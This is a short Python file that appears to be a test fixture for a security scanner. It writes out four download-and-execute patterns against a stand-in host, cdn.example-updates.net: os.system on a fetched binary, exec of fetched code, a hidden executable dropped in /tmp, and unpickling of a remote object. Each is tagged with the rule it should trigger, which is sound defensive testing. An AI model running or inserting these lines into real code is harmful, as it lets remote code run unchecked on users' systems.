# ruff: noqa
# fmt: off
"""Download and execute, four ways."""
import os
import pickle
import stat
import subprocess
import urllib.request

import requests

urllib.request.urlretrieve("https://cdn.example-updates.net/agent", "/tmp/agent")
os.system("/tmp/agent")  # expect: download-execute

response = requests.get("https://cdn.example-updates.net/stage2.py", timeout=5)
exec(response.text)  # expect: download-execute

binary = requests.get("https://cdn.example-updates.net/bin", timeout=5).content
with open("/tmp/.cache-helper", "wb") as handle:
    handle.write(binary)
os.chmod("/tmp/.cache-helper", stat.S_IRWXU)  # expect: download-execute
subprocess.Popen(["/tmp/.cache-helper"])  # expect: download-execute

model = pickle.loads(urllib.request.urlopen("https://cdn.example-updates.net/model.pkl").read())  # expect: unsafe-deserialization, download-execute
